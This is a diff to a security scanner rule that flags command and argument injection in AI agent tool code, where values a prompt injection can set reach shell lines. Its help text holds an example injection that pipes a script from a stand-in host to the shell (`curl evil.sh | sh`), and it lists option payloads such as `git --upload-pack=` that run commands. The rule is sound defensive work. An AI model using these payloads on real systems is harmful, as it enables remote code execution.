@@ -2,12 +2,15 @@
 // HTTP request) becomes a shell command line, the program to run, or an
 // option of a program run without a shell.
 import { propertyName, unwrapExpression } from "../analyzer/parse/ast.js";
+import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, OPTION_VALUE, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
 import { NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
-import type { Rule } from "./types.js";
-import { optionInjectionReach } from "./models/commands.js";
+import type { Rule, RuleContext } from "./types.js";
+import { fetchedTextRuns } from "./download-and-execute.js";
+import { optionInjectionReach, runsOperandsAsCode } from "./models/commands.js";
 import { argumentVectorRisk } from "./util/argument-vector.js";
 import { declaredCapability } from "./util/declared-purpose.js";
-import { isUnsafe, reportFlow, untrustedFlows } from "./util/untrusted-flows.js";
+import { templateText } from "./util/command-strings.js";
+import { isUnsafe, reportFlow, shapeOf, type UntrustedFlow, untrustedFlows } from "./util/untrusted-flows.js";
 
 /** For an element in option position a pattern counts by its shape (can it start with `-`?), not by being a pattern. */
 const OPTION_GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "type-check", "sanitizer-call"];
@@ -19,6 +22,9 @@ const GUARDS: readonly GuardKind[] = ["literal-equality", "allow-list", "regex-m
 
 /** APIs whose first argument is a whole shell line (execaCommand: a line split into program and arguments). */
 const SHELL_STRING_API = /(^|\.)(exec|execSync|execaCommand|execaCommandSync|command|commandSync)$|^shelljs\./;
+
+/** The label of data read from a network response (rules/models/network-responses.ts). */
+const RESPONSE_KIND = "network-response";
 
 const SHELL_FIX = "Run the program with execFile/spawn and an argument array (no shell), put `--` before user-supplied operands, or allow-list the value.";
 const OPTION_FIX = "Put `--` before user-supplied operands, or reject values that start with `-` (an allow-list or a strict pattern).";
@@ -46,7 +52,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep.",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`).",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -60,14 +66,28 @@ export const commandInjection: Rule = {
     precision: "high",
   },
   check(ctx) {
-    for (const u of untrustedFlows(ctx, "command-injection", GUARDS)) {
-      // The program position: a first argument, or an options object's `command` (`new StdioClientTransport({ command })`).
-      const programPosition = u.hit.argument === "Argument[0]" || /^Argument\[0\]\.Member\[command\]$/.test(u.hit.argument);
-      const shellLine = !programPosition || SHELL_STRING_API.test(u.hit.callee) || hasShellOption(u.hit);
+    const reportedHits = new Set<SinkHit>();
+    for (const hit of ctx.taint.hitsOf("command-injection")) {
+      const unsafe = hit.flows.filter((f) => isUnsafe(ctx, f, "command-injection", GUARDS, hit));
+      if (unsafe.length === 0) continue;
+      reportedHits.add(hit);
+      // The program position: a first argument, or an options object's `command` / `executablePath` (`new StdioClientTransport({ command })`, `launch({ executablePath })`).
+      const programPosition = hit.argument === "Argument[0]" || /^Argument\[[01]\]\.Member\[(?:command|executablePath)\]$/.test(hit.argument);
+      const shellLine = !programPosition || SHELL_STRING_API.test(hit.callee) || hasShellOption(hit);
+      const line = shellLine ? shellLineProgram(hit) : undefined;
+      // A value that stays one word of the line, after its program, is an argument, not shell syntax.
+      const breaking = unsafe.filter((f) => !line || line.runsWords || !isOneArgumentWord(shapeOf(ctx, f, hit)));
+      if (breaking.length === 0) {
+        const option = unsafe.find((f) => !cannotBeAnOption(shapeOf(ctx, f, hit)));
+        if (option) reportOption(ctx, { hit, flow: option }, line?.program, line?.subcommand, "in a shell command line, as one word");
+        continue;
+      }
+      const u = { hit, flow: breaking[0] };
       const what = shellLine ? "as part of a shell command line" : "as the program it runs";
       const capability = declaredCapability(ctx, u);
       reportFlow(ctx, u, what, capability?.advice ?? SHELL_FIX, undefined, "", capability);
     }
+    reportResponseValuesInShellLines(ctx, reportedHits);
     for (const u of untrustedFlows(ctx, "command-argument", OPTION_GUARDS)) {
       const risk = argumentVectorRisk(u.hit, ctx.taint, u.flow);
       if (risk.kind === "safe") continue;
@@ -79,10 +99,68 @@ export const commandInjection: Rule = {
       // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
       const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, cannotStartWithDash));
       if (!flow) continue;
-      // A program with an option that carries its own command (`git --upload-pack=…`): the option runs code.
-      const runs = optionInjectionReach(risk.program, risk.subcommand);
-      if (runs) reportFlow(ctx, { hit: u.hit, flow }, `in its argument array, where a value such as \`${runs.runsCode}…\` is read as an option of ${risk.program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
-      else reportFlow(ctx, { hit: u.hit, flow }, "in its argument array, where a value starting with `-` is read as an option (argument injection)", OPTION_FIX, "medium", "option");
+      reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array");
     }
   },
 };
+
+/** Argument injection: high for a program with an option that carries its own command (`git --upload-pack=…`), medium otherwise. */
+function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | undefined, subcommand: string | undefined, where: string): void {
+  const runs = optionInjectionReach(program, subcommand);
+  if (runs) reportFlow(ctx, u, `${where}, where a value such as \`${runs.runsCode}…\` is read as an option of ${program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
+  else reportFlow(ctx, u, `${where}, where a value starting with \`-\` is read as an option (argument injection)`, OPTION_FIX, "medium", "option");
+}
+
+/** One word of a shell line that is not its first (the program): inert characters, or escaped and single-quoted (shell-shapes.ts). */
+function isOneArgumentWord(marks: readonly string[]): boolean {
+  return staysOneShellWord(marks) && marks.includes(AFTER_FIRST_WORD);
+}
+
+/** A word that cannot be read as an option: it cannot start with `-`, or follows a standalone `--`. */
+function cannotBeAnOption(marks: readonly string[]): boolean {
+  return marks.includes(NO_LEADING_DASH) || marks.includes(AFTER_OPTIONS_END) || marks.includes(OPTION_VALUE);
+}
+
+/**
+ * The program and subcommand a shell line runs, from its constant text
+ * (`git log ${x}` → git, log), and whether that program runs its operands as
+ * code (`sh -c '…'`, `ssh host '…'`, `xargs …`): then a quoted word is still a
+ * command. The program is undefined when the line starts with a value.
+ */
+function shellLineProgram(hit: SinkHit): { program?: string; subcommand?: string; runsWords: boolean } {
+  const call = hit.node;
+  const first = call.type === "CallExpression" || call.type === "NewExpression" ? call.arguments[0] : undefined;
+  const written = first && first.type !== "SpreadElement" ? templateText(first, hit.module) : undefined;
+  // A line built elsewhere (`run(line)` in a helper): the constants the engine knows it starts with.
+  const texts = written !== undefined && !written.startsWith("$X") ? [written] : (hit.destination?.constants ?? []);
+  const words = (texts[0] ?? "").trim().split(/\s+/);
+  const program = texts.length === 1 && words[0] && !words[0].includes("$X") ? words[0] : undefined;
+  const subcommand = program ? words.slice(1).find((w) => !w.startsWith("-") && !w.includes("$X")) : undefined;
+  // A line that pipes or chains runs more than one program: any of them may read its words as code.
+  const programs = texts.flatMap((t) => t.split(/\|\||&&|[|;&\n]/).map((c) => c.trim().split(/\s+/)[0]));
+  return { program, subcommand, runsWords: programs.some((p) => runsOperandsAsCode(p)) };
+}
+
+/**
+ * A value a server sent (a URL from an auth server's metadata, a redirect's
+ * Location, a device-login page) put into a shell line: whoever answers the
+ * request, or sits between, writes part of a command. Fetched text run as the
+ * command itself is download-and-execute's; this is the operand case.
+ */
+function reportResponseValuesInShellLines(ctx: RuleContext, skip: ReadonlySet<SinkHit>): void {
+  for (const hit of ctx.taint.hitsOf("command-injection")) {
+    if (skip.has(hit)) continue;
+    const programPosition = hit.argument === "Argument[0]" && !SHELL_STRING_API.test(hit.callee) && !hasShellOption(hit);
+    if (programPosition || fetchedTextRuns(hit)) continue;
+    const flow = hit.flows.find((f) => f.label.kind === RESPONSE_KIND && !f.sanitizedFor.includes("command-injection") && !f.sanitizedFor.includes("*") && !f.guards.some((g) => GUARDS.includes(g)));
+    if (!flow) continue;
+    ctx.report({
+      message: `A value from a network response (${flow.label.name}) reaches ${hit.callee} as part of a shell command line: whoever answers that request writes part of the command`,
+      severity: "medium",
+      location: hit.location,
+      path: flow.path.length > 0 ? flow.path : undefined,
+      fix: "Open URLs without a shell (execFile/spawn with an argument array, after checking the scheme is http(s)), or allow-list the value.",
+      fingerprintKey: `response|${hit.callee}|${hit.argument}`,
+    });
+  }
+}
